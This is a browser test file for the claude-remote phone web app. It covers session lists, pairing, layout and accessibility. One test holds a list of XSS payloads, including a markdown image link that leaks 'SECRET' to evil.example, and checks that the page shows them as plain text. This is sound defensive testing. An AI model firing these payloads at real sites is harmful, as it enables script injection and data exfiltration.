// The page in a real browser, at a phone's size, with the server's strict headers.
import { expect, test } from "bun:test";
import type { Question } from "../src/protocol.ts";
import type { OpenPage } from "./testing/open-page.ts";
import { drawn, opener, ready, shows, until } from "./testing/opener.ts";
import {
  ask,
  bash,
  fileEdit,
  firstFrame,
  inSession,
  PLAN_OPTIONS,
  prompt,
  QUESTION_OPTIONS,
  run,
  screenRows,
  session,
  shop,
  working,
} from "./testing/world.ts";

const open = opener();

const MINUTE = 60_000;

// ── list ─────────────────────────────────────────────────────────────────────────────────────────────────────────────

test.concurrent("the list answers first whether anything needs me", async () => {
  const other = session("payments", { status: "waiting", devbox: "gpu-01" });
  await using page = await open({
    sessions: [
      session("old", {
        status: "ended",
        ended_at: Date.now() - MINUTE,
        end_reason: "signal",
        signal: "SIGKILL",
      }),
      session("docs", { title: "Rewrite the guide" }),
      session("lost", { connected: false }),
      shop,
      other,
    ],
    prompts: [ask, { ...bash("p2", other, "ls"), created_at: Date.now() - 5 * MINUTE }],
  });
  await shows(page.page.locator("h1"), "2 need you");
  expect(await page.part("heading").getAttribute("aria-live")).toBe("assertive");
  expect(await page.page.title()).toBe("(2) claude-remote");
  expect(await page.texts(".project")).toEqual(["payments", "webshop", "docs", "lost", "old"]);
  expect(await page.texts(".row .state")).toEqual([
    ...["Run this command?", "Run this command?", "Working"],
    expect.stringMatching(/^Unreachable since \d\d:\d\d$/),
    expect.stringMatching(/^Ended \d\d:\d\d, killed by SIGKILL$/),
  ] as string[]);
  expect(await page.texts(".row.needs .what, .waiting .what")).toEqual(["ls", "npm test && git push"]);
  await page.part("nudge").waitFor();
  const tops = await page.page.evaluate(() =>
    [".waiting > .row", ".nudge", ".working > .row"].map(
      (which) => document.querySelector(which)?.getBoundingClientRect().top ?? 0,
    ),
  );
  expect(tops).toEqual(tops.toSorted((a, b) => a - b)); // Nothing stands above what needs somebody.
  await page.pictures("list");

  page.server.send("prompt_response", { prompt: { ...ask, stage: "withdrawn", withdrawn_by: "desk" } });
  page.server.send("session_start", { session: { ...shop, status: "working" } });
  await shows(page.page.locator("h1"), "1 needs you");
  expect(await page.page.locator("h1").count()).toBe(1);
});

test.concurrent("the list is asked for anew by a button, or pulled down at its top", async () => {
  await using page = await open({ sessions: [shop, session("docs")] });
  await page.page.locator(".row").first().waitFor();
  // All that it says: some of it stands there for a moment only.
  await page.page.evaluate(() => {
    const line = document.querySelector("[data-part=pulled]") as HTMLElement;
    const note = () => {
      line.dataset.said = `${line.dataset.said ?? ""}|${line.textContent}`;
    };
    new MutationObserver(note).observe(line, { childList: true, characterData: true, subtree: true });
  });
  const said = (words: string) => page.page.locator(`[data-part=pulled][data-said*="${words}"]`);
  const forgotten = () =>
    page.page.evaluate(() => document.querySelector("[data-said]")?.removeAttribute("data-said"));
  const attached = { state: "attached" } as const;
  await page.phone.button("Refresh").tap();
  await page.server.streams(2);
  await said("|Refreshing …|Up to date").waitFor(attached);

  await page.part("scroll").evaluate((list) => list.scrollTo(0, 0));
  await forgotten();
  const touch = await page.page.context().newCDPSession(page.page);
  const finger = (type: "touchStart" | "touchMove" | "touchEnd", y?: number) =>
    touch.send("Input.dispatchTouchEvent", { type, touchPoints: y === undefined ? [] : [{ x: 190, y }] });
  const pull = async (way: number) => {
    await finger("touchStart", 200);
    for (let gone = 10; gone <= way; gone += 10) await finger("touchMove", 200 + gone);
  };
  await pull(60);
  await said("Pull to refresh").waitFor(attached);
  await finger("touchEnd");
  await pull(120);
  await said("Let go to refresh").waitFor(attached);
  expect(page.server.opened).toHaveLength(2); // Nothing is asked before, nor by the shorter pull.
  await finger("touchEnd");
  await page.server.streams(3);
  await said("|Refreshing …|Up to date").waitFor(attached);
});

test.concurrent("the focus stays on its row while others come, go and change places", async () => {
  const [docs, api] = [session("docs"), session("api", { status: "idle" })];
  await using page = await open({ sessions: [docs, api] });
  const row = page.page.locator('.row[href="/s/api"]');
  await row.focus();
  await row.evaluate((one) => one.addEventListener("blur", () => one.setAttribute("data-left", "")));
  page.server.send("session_end", { session: { ...docs, status: "ended", ended_at: Date.now() } });
  await page.part("ended").locator(".row").waitFor();
  expect(await row.getAttribute("data-left")).toBeNull(); // It was not even moved.
  page.server.send("session_start", { session: session("early") });
  page.server.send("session_start", { session: { ...api, status: "working", started_at: Date.now() } });
  await page.page.locator('[data-part=open] li:first-child .row[href="/s/api"]').waitFor();
  expect(await row.evaluate((one) => one === document.activeElement)).toBe(true);
});

test.concurrent("an empty list says how to begin", async () => {
  await using page = await open({});
  await shows(page.part("empty"), "claude-remote");
  expect(await page.texts("h1")).toEqual(["Nothing needs you"]);
  await page.pictures("list-empty");
});

test.concurrent("what had no contact for fifteen seconds is dimmed, dated, and cannot be approved", async () => {
  await using page = await open({
    ...{ path: "/p/p1", sessions: [shop], prompts: [ask], failures: true },
    clock: true,
  });
  await page.part("deny").waitFor();
  await page.page.clock.runFor(1_000);
  await ready(page);
  page.server.drop();
  await page.page.clock.runFor(17_000);
  await shows(page.part("outcome"), /^No contact with the server since \d\d:\d\d\.$/);
  expect(await page.part("approve").isDisabled()).toBe(true);
  await page.part("back").tap();
  await shows(page.page.locator("#banner"), /^Reconnecting … \(\d+ s\), as of \d\d:\d\d$/);
  expect(await page.texts(".link-state")).toEqual([""]); // Once is enough.
  await page.pictures("list-stale");
});

test.concurrent("a login that something else asks for is not the end of this phone's: it is told, and nothing is thrown away", async () => {
  await using page = await open({ path: "/s/webshop", sessions: [working], failures: true });
  await page.page.getByLabel("Message to Claude").fill("a draft");
  page.server.drop(401, { body: "<h1>Sign in to continue</h1>", type: "text/html" });
  const words = "The server cannot be reached: something between it and this phone asks for a login (401).";
  await shows(page.page.locator("#barred-by"), words);
  expect(await page.page.getByLabel("Message to Claude").inputValue()).toBe("a draft");
  expect(await page.page.evaluate(() => localStorage.getItem("draft:webshop"))).toBe("a draft");
  await page.pictures("barred");
  page.server.accept();
  await page.page.locator("#barred").waitFor({ state: "hidden" });
  await shows(page.page.locator("h1"), "webshop");

  page.server.drop(401, { body: JSON.stringify({ error: "unauthorized" }) });
  await shows(page.page.locator("#barred-by"), words);
  const through = page.page.waitForRequest(`${page.server.url}/s/webshop?through`);
  page.server.accept();
  await page.phone.button("Show it").tap();
  await through;
  await page.page.waitForURL(`${page.server.url}/s/webshop`);
  expect(await page.page.getByLabel("Message to Claude").inputValue()).toBe("a draft");
});

// ── pairing ──────────────────────────────────────────────────────────────────────────────────────────────────────────

test.concurrent("SEC-017 SEC-020 a pairing link pairs nothing by itself and leaves no code behind", async () => {
  await using page = await open({
    ...{ path: "/pair#ABCD-EFGH", failures: true },
    before: ({ server }) => server.drop(401),
  });
  let yes = false;
  const reply = () => ({ status: yes ? "paired" : "pending", check: "47" });
  page.server.reply("/api/pair", () => ({ body: reply() }));
  await shows(page.page.locator("h1"), "Pair this phone");
  expect(page.page.url()).toBe(`${page.server.url}/pair`);
  expect(await page.part("server").textContent()).toBe(new URL(page.server.url).host);
  expect(page.server.asked).toEqual([]);
  await page.pictures("pair");
  await page.page.getByLabel("Name of this device").fill("My phone");
  await page.phone.button("Pair this phone").tap();
  await shows(page.part("digits"), "47");
  await page.pictures("pair-check");
  page.server.accept();
  yes = true;
  await shows(page.page.locator("h1"), "Nothing needs you");
  const body = { code: "ABCD-EFGH", name: "My phone", bind: true };
  const [first, ...later] = page.server.asked.map((asked) => asked.body);
  expect(first).toEqual({ ...body, claim: expect.stringMatching(/^[\w-]{36}$/) });
  expect(later.length).toBeGreaterThan(0);
  for (const again of later) expect(again).toEqual(first);
});

test.concurrent("a pairing whose answers are lost on the way is asked for again, by the same claim", async () => {
  await using page = await open({
    ...{ path: "/pair#ABCD-EFGH", failures: true },
    before: ({ server }) => server.drop(401),
  });
  // The first answer is lost, then it waits for the yes, then the login is lost, and then it comes.
  const lost = { status: 502 };
  const replies = [lost, { body: { status: "pending", check: "47" } }, lost];
  page.server.reply("/api/pair", () => {
    return replies[page.server.asked.length] ?? { body: { status: "paired", check: "47" } };
  });
  await page.phone.button("Pair this phone").tap();
  await shows(page.part("problem"), "The server");
  page.server.accept();
  await page.phone.button("Pair this phone").tap();
  await shows(page.page.locator("h1"), "Nothing needs you");
  const claims = page.server.asked.map(({ body }) => (body as { claim: string }).claim);
  expect(claims).toHaveLength(4);
  expect(new Set(claims).size).toBe(1);
  expect(claims[0]).toMatch(/^[\w-]{36}$/);
});

test.concurrent("a browser that is not paired can be paired by typing the code", async () => {
  await using page = await open({
    ...{ path: "/s/webshop", sessions: [working], failures: true },
    before: ({ server }) => server.drop(401),
  });
  page.server.reply("/api/pair", ({ body }) => {
    if ((body as { code: string }).code === "good-code") return { body: { status: "paired", check: "11" } };
    return {
      status: 403,
      body: { error: { code: "forbidden", message: "That code is not valid.", request: "r" } },
    };
  });
  await page.page.getByLabel("Code").fill("bad");
  await page.pictures("logged-out");
  await page.phone.button("Pair this phone").tap();
  await shows(page.part("problem"), "That code is not valid.");
  page.server.accept();
  await page.page.getByLabel("Code").fill("good-code");
  await page.phone.button("Pair this phone").tap();
  await shows(page.page.locator("h1"), "webshop");
});

test.concurrent("what is typed before the server speaks stays; a link opened there brings its code, and never asks again", async () => {
  let line = Promise.withResolvers<void>();
  await using page = await open({
    ...{ path: "/pair", failures: true },
    async before({ page, server }) {
      server.drop(401);
      server.reply("/api/pair", () => ({ body: { status: "paired" } }));
      await page.route(/\/events$/, async (route) => {
        await line.promise;
        await route.continue();
      });
    },
  });
  const typed = page.page.getByLabel("Code");
  await typed.fill("ABCD");
  await page.page.evaluate(() => localStorage.setItem("kept", "until the server says that this is nobody"));
  line.resolve();
  await until(page, async () => localStorage.getItem("kept") === null);
  await drawn(page);
  expect(await typed.inputValue()).toBe("ABCD");

  await page.page.evaluate(() => {
    location.hash = "#WXYZ-1234";
  });
  await page.part("code-field").waitFor({ state: "hidden" });
  expect(page.page.url()).toBe(`${page.server.url}/pair`);
  line = Promise.withResolvers();
  page.server.accept();
  await page.phone.button("Pair this phone").tap();
  expect((await page.server.call("/api/pair")).body).toMatchObject({ code: "WXYZ-1234" });
  await page.page.locator("body[data-view=list]").waitFor(); // Nobody is asked for a code until the server has spoken.
  line.resolve();
  await shows(page.page.locator("h1"), "Nothing needs you");
});

// ── everywhere ───────────────────────────────────────────────────────────────────────────────────────────────────────

const XSS = [
  "<script>window.hit=1</script>",
  '"><img src=x onerror="window.hit=1">',
  "<svg onload=window.hit=1>",
  "</textarea><iframe src=javascript:window.hit=1>",
  "<math><mtext></table><style><img src onerror=window.hit=1>",
  "javascript:window.hit=1",
  "![x](https://evil.example/p.png?leak=SECRET)",
  "{{constructor.constructor('window.hit=1')()}}",
];

test.concurrent("SEC-049 SEC-050 hostile text in every place is text, and asks for nothing", async () => {
  const all = XSS.join(" ");
  const evil = session("evil", {
    ...{ cwd: `/home/${XSS[0]}/${all}`, device_name: all, title: all, command: [all], status: "waiting" },
    waiting_for: all,
  });
  const questions: Question[] = [
    {
      question: all,
      header: all,
      multi_select: false,
      options: [{ label: all, description: all, preview: all }],
    },
  ];
  const prompts = [
    prompt("x1", evil, { tool: all, input: { [all]: all }, prompt_text: all }),
    bash("x2", evil, all, all),
    fileEdit("x3", evil, all, all, `${all}\n${all}`),
    prompt("x4", evil, { kind: "question", questions, options: QUESTION_OPTIONS, prompt_text: all }),
    prompt("x5", evil, { kind: "plan", input: { plan: `# ${all}\n- ${all}` }, options: PLAN_OPTIONS }),
  ];
  await using page = await open({ sessions: [evil, session("other")], prompts });
  const lines = [{ line_no: 1, epoch: 0, source: "screen" as const, text: all }];
  page.server.reply("/api/sessions/evil/lines", () => ({ body: { lines } }));
  await page.page.locator(".row").first().waitFor();
  for (const path of ["/p/x1", "/p/x2", "/p/x3", "/p/x4", "/p/x5", "/s/evil"]) {
    await page.page.evaluate((to) => {
      history.pushState(null, "", to);
      dispatchEvent(new PopStateEvent("popstate"));
    }, path);
    await page.page.locator(path.startsWith("/p") ? ".card-view" : ".session-view").waitFor();
    expect(await page.phone.overflows()).toBe(false);
  }
  await page.server.stream("/events?session=evil");
  page.server.send("output", { session: evil.id, frame: firstFrame([[run(all)]], 200) });
  await shows(page.page.locator(".line"), "<script>");
  await page.part("tab-log").tap();
  await shows(page.page.locator(".log-line"), "<script>");
  await page.page.getByRole("button", { name: "About this session" }).tap();
  await shows(page.page.locator("dialog"), "<script>");
  expect(await page.page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  // Two scripts of its own.
  expect(await page.page.locator("script, iframe, math, img[src=x]").count()).toBe(2);
});

/** What an address shows once the server has spoken. */
const VIEWS: Record<string, string> = {
  "/": ".row",
  "/p": "article.card-view",
  "/s": ".session-view",
};

test.concurrent.each([320, 390, 844, 1180])("nothing is wider than a page of %i", async (width) => {
  const long = "x".repeat(5_000);
  const wide = session("wide", { status: "waiting", title: long, cwd: `/home/${long}`, device_name: long });
  const prompts = [bash("p1", wide, long, long), fileEdit("p2", wide, long, long, `${long}\n${long}`)];
  await using page = await open({ sessions: [wide], prompts, width, height: width === 844 ? 390 : 700 });
  await page.page.locator(".row").first().waitFor();
  for (const path of ["/", "/p/p1", "/p/p2", "/s/wide"]) {
    await page.page.goto(page.server.url + path);
    await page.page
      .locator(VIEWS[path.slice(0, 2)] ?? path)
      .first()
      .waitFor();
    if (path === "/s/wide") {
      page.server.send("output", { session: wide.id, frame: firstFrame([[run("x".repeat(200))]], 200, 50) });
      await shows(page.page.locator(".line"), "xxx");
    }
    expect(await page.phone.overflows()).toBe(false);
    await page.phone.picture(`width-${width}${path.replaceAll("/", "-")}`);
  }
});

test.concurrent("acceptance 9: the first load is under 60 KB", async () => {
  await using page = await open({
    ...{ sessions: [shop], prompts: [ask] },
    // What comes three seconds later is the worker's, on a busy machine before anybody looks.
    async before({ page }) {
      await page.addInitScript(() => Object.defineProperty(window, "isSecureContext", { value: false }));
    },
  });
  await page.page.locator(".row").first().waitFor();
  const bytes = [...page.server.sent.values()].reduce((sum, size) => sum + size, 0);
  // A part is what both the page and something loaded later need.
  const files = [...page.server.sent.keys()].map((path) => path.replace(/^\/part-\w+\.js$/, "/part.js"));
  expect(files.sort()).toEqual(["/", "/app.css", "/app.js", "/early.js", "/icons/icon.svg", "/part.js"]);
  expect(bytes).toBeLessThan(60_000);
});

test.concurrent("what happens is asked for once, before the page's own script has come", async () => {
  for (const [path, asked] of [
    ["/", "/events"],
    ["/s/webshop", "/events?session=webshop"],
  ] as const) {
    await using page = await open({
      ...{ path, sessions: [shop], prompts: [ask] },
      async before({ page, server }) {
        await page.route("**/app.js", async (route) => {
          await server.streams(1);
          await route.continue();
        });
      },
    });
    await page.page.locator(path === "/" ? ".row" : ".session-view h1").waitFor();
    expect(page.server.opened).toEqual([asked]);
  }
});

/** Contrast of every visible text with what is behind it, and the size of everything that can be pressed. */
function inspect(page: OpenPage) {
  return page.page.evaluate(() => {
    const problems: string[] = [];
    const rgb = (color: string) => (color.match(/[\d.]+/g) ?? []).map(Number);
    const light = (color: number[]) => {
      const [r = 0, g = 0, b = 0] = color.map((part) => {
        const share = part / 255;
        return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4;
      });
      return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const behind = (start: Element) => {
      for (let at: Element | null = start; at; at = at.parentElement) {
        const color = rgb(getComputedStyle(at).backgroundColor);
        if (color[3] === undefined || color[3] === 1) return color;
      }
      return [255, 255, 255];
    };
    const visible = (one: Element) =>
      one.checkVisibility({ visibilityProperty: true, opacityProperty: true });
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
      const one = walker.currentNode.parentElement;
      const text = walker.currentNode.textContent?.trim();
      if (!one || !text || !visible(one) || one.closest("[disabled], .sr, .terminal, script")) continue;
      const [dark = 0, bright = 0] = [light(rgb(getComputedStyle(one).color)), light(behind(one))].sort(
        (a, b) => a - b,
      );
      const ratio = (bright + 0.05) / (dark + 0.05);
      if (ratio < 4.5) problems.push(`${ratio.toFixed(2)}:1 "${text.slice(0, 30)}"`);
    }
    for (const one of document.querySelectorAll(
      "button, a, textarea, input:not([type=radio], [type=checkbox])",
    )) {
      const { width, height } = one.getBoundingClientRect();
      const small =
        width > 0 &&
        visible(one) &&
        !one.closest("p:not(.to-session), .facts, .tabs, .sr") &&
        Math.min(width, height) < 44;
      if (small) problems.push(`${Math.round(width)}×${Math.round(height)} ${one.textContent?.slice(0, 30)}`);
      if (visible(one) && !one.textContent?.trim() && !one.getAttribute("aria-label") && !("labels" in one)) {
        problems.push(`no name: ${one.outerHTML.slice(0, 80)}`);
      }
    }
    const headings = [...document.querySelectorAll("h1")].filter(visible).length;
    if (headings !== 1) problems.push(`${headings} h1`);
    return problems;
  });
}

test.concurrent.each(["light", "dark"] as const)(
  "every screen is readable, large enough and named, in the %s",
  async (theme) => {
    const edit = fileEdit("p2", shop, "/home/ada/webshop/a.ts", "a\nb\n", "a\nc\n\u200b");
    const questions: Question[] = [
      { question: "Which?", header: "H", multi_select: true, options: [{ label: "A", description: "d" }] },
    ];
    const question = prompt("p3", shop, { kind: "question", questions, options: QUESTION_OPTIONS });
    const sessions = [
      shop,
      session("busy"),
      session("idle", { status: "idle", hooks: "dead", terminal: false }),
      session("lost", { connected: false }),
      session("over", { status: "ended", ended_at: Date.now() }),
    ];
    await using page = await open({ sessions, prompts: [ask, edit, question], theme });
    page.server.reply("/api/sessions/idle/lines", () => ({ body: { lines: [] } }));
    const problems: Record<string, string[]> = {};
    for (const path of [
      "/",
      "/p/p1",
      "/p/p2",
      "/p/p3",
      "/s/busy",
      "/s/idle",
      "/s/over",
      "/s/lost",
      "/pair",
    ]) {
      await page.page.goto(page.server.url + path);
      await page.page
        .locator(path === "/pair" ? ".pair-view" : (VIEWS[path.slice(0, 2)] ?? path))
        .first()
        .waitFor();
      if (path.startsWith("/p/")) await ready(page);
      const found = await inspect(page);
      if (found.length > 0) problems[path] = found;
    }
    expect(problems).toEqual({});
  },
);

test.concurrent("what the server is asked for is not said to be gone before it has answered", async () => {
  const answer = Promise.withResolvers<void>();
  await using page = await open({
    ...{ path: "/s/old", sessions: [shop], failures: true },
    async before({ page, server }) {
      server.reply("/api/sessions/old", () => ({ status: 404 }));
      await page.route("**/api/sessions/old", async (route) => {
        await answer.promise;
        await route.continue();
      });
    },
  });
  await shows(page.part("text"), "Reading …");
  answer.resolve();
  await shows(page.part("text"), "This session is not known here any more.");
});

test.concurrent("another network is another stream; another estimate of its speed is not", async () => {
  await using page = await open({
    async before({ page }) {
      await page.addInitScript(() => {
        const connection = Object.assign(new EventTarget(), { type: "cellular" });
        Object.defineProperty(navigator, "connection", { value: connection });
      });
    },
  });
  const changes = (type: string) =>
    page.page.evaluate((now) => {
      const { connection } = navigator as unknown as { connection: EventTarget };
      Object.assign(connection, { type: now }).dispatchEvent(new Event("change"));
    }, type);
  await shows(page.page.locator(".link-state"), "Live");
  await changes("cellular");
  await changes("wifi");
  await page.server.streams(2);
  await shows(page.page.locator(".link-state"), "Live");
  expect(page.server.opened).toHaveLength(2);
});

test.concurrent("a wide page shows the list beside the session", async () => {
  await using page = await open({ ...inSession, prompts: [], width: 1180, height: 820, touch: false });
  await page.server.streams(1);
  page.server.send("output", { session: shop.id, frame: firstFrame(screenRows, 100, 40) });
  await shows(page.page.locator(".line"), "bold");
  await page.page.locator(".row[aria-current=page]").waitFor();
  expect(await page.texts("h1")).toEqual(["webshop"]);
  await page.pictures("wide");
});

test.concurrent("SEC-019 everybody is told of a new phone, and can revoke it", async () => {
  await using page = await open({ sessions: [shop] });
  await page.page.locator(".row").waitFor();
  const now = Date.now();
  const viewer = {
    id: "v2" as never,
    name: "Stranger <b>\u202e",
    created_at: now,
    last_seen: now,
    revoked_at: null,
  };
  page.server.send("viewers", { viewers: [viewer] });
  await shows(page.page.locator(".notice"), "Paired just now: Stranger <b><U+202E>");
  await page.pictures("new-phone");
  await page.phone.button("Revoke").tap();
  expect(await page.server.call("/api/viewers/v2")).toMatchObject({ method: "DELETE" });
  await page.page.locator(".notice").waitFor({ state: "hidden" });
});
